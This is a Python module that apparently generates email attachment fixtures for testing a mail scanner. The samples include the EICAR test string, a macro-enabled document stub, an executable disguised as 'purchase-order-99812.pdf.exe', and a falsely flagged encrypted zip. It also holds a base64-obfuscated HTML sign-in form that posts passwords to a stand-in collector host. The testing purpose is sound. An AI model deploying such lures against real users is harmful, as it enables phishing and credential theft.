"""Attachments made when they are sent, so that no file of this project upsets a virus scanner."""

import base64
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attachment:
    """A file as it hangs on a message."""

    name: str
    media_type: str
    content: bytes


def attachment(kind: str) -> Attachment:
    """Return a new attachment of one of the kinds that `mail.yaml` names.

    Raises:
        KeyError: no such kind.
    """
    return _KINDS[kind]()


def _pdf() -> Attachment:
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return Attachment("offer-4711.pdf", "application/pdf", body)


def _office(name: str, media_type: str, parts: dict[str, bytes]) -> Attachment:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for path, part in parts.items():
            archive.writestr(path, part)
    return Attachment(name, media_type, content.getvalue())


def _document() -> Attachment:
    return _office(
        "application.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        {"word/document.xml": b"<w:document><w:body/></w:document>"},
    )


def _macro_document() -> Attachment:
    return _office(
        "scan-0034.docm",
        "application/vnd.ms-word.document.macroEnabled.12",
        {
            "word/document.xml": b"<w:document><w:body/></w:document>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        },
    )


def _test_virus() -> Attachment:
    # The harmless test string of the antivirus industry (eicar.org), in pieces.
    pieces = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*")
    return Attachment("driver.com", "application/octet-stream", "".join(pieces).encode())


def _program_named_pdf() -> Attachment:
    content = b"MZ\x90\x00" + bytes(56) + b"\x40\x00\x00\x00" + b"PE\x00\x00" + bytes(200)
    return Attachment("purchase-order-99812.pdf.exe", "application/pdf", content)


def _locked_archive() -> Attachment:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("invoice.xls", bytes(range(256)))
    raw = bytearray(content.getvalue())
    raw[6] |= 1  # encrypted, says the local header (APPNOTE 4.4.4)
    raw[raw.index(b"PK\x01\x02") + 8] |= 1  # and the central directory
    return Attachment("invoice.zip", "application/zip", bytes(raw))


def _html_sign_in() -> Attachment:
    form = base64.b64encode(
        b"<form action='https://collect.doc-share.example/in' method='post'>"
        b"<input name='mail'><input type='password' name='word'><button>Sign in</button></form>"
    ).decode()
    page = (
        "<html><body><div id=d></div><script>"
        f"document.getElementById('d').innerHTML = atob('{form}');"
        "</script></body></html>"
    )
    return Attachment("payment-schedule.html", "text/html", page.encode())


_KINDS: dict[str, Callable[[], Attachment]] = {
    "pdf": _pdf,
    "document": _document,
    "macro_document": _macro_document,
    "test_virus": _test_virus,
    "program_named_pdf": _program_named_pdf,
    "locked_archive": _locked_archive,
    "html_sign_in": _html_sign_in,
}
